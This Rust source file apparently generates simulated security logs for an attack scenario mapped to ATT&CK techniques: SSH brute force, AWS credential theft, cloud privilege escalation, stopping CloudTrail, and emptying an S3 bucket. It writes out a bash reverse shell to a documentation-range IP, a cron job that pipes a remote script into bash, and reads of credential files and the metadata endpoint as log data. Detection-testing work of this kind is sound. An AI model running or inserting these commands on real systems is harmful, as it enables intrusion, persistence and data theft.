//! Guessed SSH password → cloud keys on disk → new cloud user → storage emptied.

use serde_json::json;

use crate::emit::cloudtrail::{self, Caller};
use crate::emit::linux;
use crate::tape::{MINUTE, SECOND, Tape};
use crate::world::World;

const OUTSIDE_IP: &str = "198.51.100.201";
const KEY: &str = "AKIAEXAMPLEDEPLOY000";

pub(crate) fn play(tape: &mut Tape, world: &World, start: i64) {
    on_server(tape, world, start);
    in_the_cloud(tape, start + 30 * MINUTE);
    tape.everyday();
}

fn on_server(tape: &mut Tape, world: &World, at: i64) {
    let host = &world.web;
    tape.step("guess", "T1110.001", "Passwords are guessed over SSH until one works");
    for i in 0..45 {
        let line = format!("Failed password for deploy from {OUTSIDE_IP} port {} ssh2", 40_000 + i);
        linux::syslog(tape, host, at + i * 2 * SECOND, ("sshd", 6001), &line);
    }
    let line = format!("Accepted password for deploy from {OUTSIDE_IP} port 40100 ssh2");
    linux::syslog(tape, host, at + 2 * MINUTE, ("sshd", 6001), &line);
    tape.step("keys", "T1552.001", "Cloud keys are read from the home folder");
    let user = ("deploy", 1001);
    linux::exec(tape, host, at + 4 * MINUTE, user, "/usr/bin/cat", &["cat", "/home/deploy/.aws/credentials"]);
    linux::exec(
        tape,
        host,
        at + 5 * MINUTE,
        user,
        "/usr/bin/curl",
        &["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    );
    tape.step("foothold", "T1053.003", "A reverse shell is kept alive by cron");
    linux::exec(
        tape,
        host,
        at + 8 * MINUTE,
        user,
        "/usr/bin/bash",
        &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.201/4444 0>&1"],
    );
    linux::exec(
        tape,
        host,
        at + 9 * MINUTE,
        user,
        "/usr/bin/bash",
        &[
            "bash",
            "-c",
            "(crontab -l; echo '*/5 * * * * curl -s http://198.51.100.201/x | bash') | crontab -",
        ],
    );
}

fn in_the_cloud(tape: &mut Tape, at: i64) {
    let thief =
        Caller { user: "deploy", key: KEY, ip: OUTSIDE_IP, agent: "aws-cli/1.22.34 Python/3.10 Linux/5.15" };
    tape.step("who", "T1580", "The stolen keys are tried and the account is looked around");
    for (i, (service, name)) in [
        ("sts", "GetCallerIdentity"),
        ("iam", "ListUsers"),
        ("iam", "ListAttachedUserPolicies"),
        ("s3", "ListBuckets"),
        ("secretsmanager", "ListSecrets"),
    ]
    .iter()
    .enumerate()
    {
        cloudtrail::call(tape, at + i as i64 * 7 * SECOND, &thief, service, name, json!(null));
    }
    tape.step("user", "T1136.003", "A new user with administrator rights is made");
    cloudtrail::call(tape, at + 4 * MINUTE, &thief, "iam", "CreateUser", json!({"userName": "svc-monitor"}));
    cloudtrail::call(
        tape,
        at + 4 * MINUTE + 5 * SECOND,
        &thief,
        "iam",
        "CreateAccessKey",
        json!({"userName": "svc-monitor"}),
    );
    cloudtrail::call(
        tape,
        at + 4 * MINUTE + 9 * SECOND,
        &thief,
        "iam",
        "AttachUserPolicy",
        json!({"userName": "svc-monitor", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"}),
    );
    take_all(tape, at, &thief);
}

/// Logging stops, and a bucket is emptied.
fn take_all(tape: &mut Tape, at: i64, thief: &Caller<'_>) {
    tape.step("logging", "T1562.008", "The trail is stopped");
    cloudtrail::call(
        tape,
        at + 8 * MINUTE,
        thief,
        "cloudtrail",
        "StopLogging",
        json!({"name": "meridian-trail"}),
    );
    tape.step("theft", "T1530", "A bucket is opened to all and emptied");
    cloudtrail::call(
        tape,
        at + 11 * MINUTE,
        thief,
        "s3",
        "PutBucketPolicy",
        json!({"bucketName": "meridian-backups", "bucketPolicy": {"Statement": [{"Effect": "Allow", "Principal": "*", "Action": "s3:GetObject"}]}}),
    );
    for i in 0..60 {
        cloudtrail::call(
            tape,
            at + 12 * MINUTE + i * SECOND,
            thief,
            "s3",
            "GetObject",
            json!({"bucketName": "meridian-backups", "key": format!("dump/part-{i:04}.gz")}),
        );
    }
    cloudtrail::call(
        tape,
        at + 15 * MINUTE,
        thief,
        "s3",
        "DeleteBucket",
        json!({"bucketName": "meridian-backups"}),
    );
}
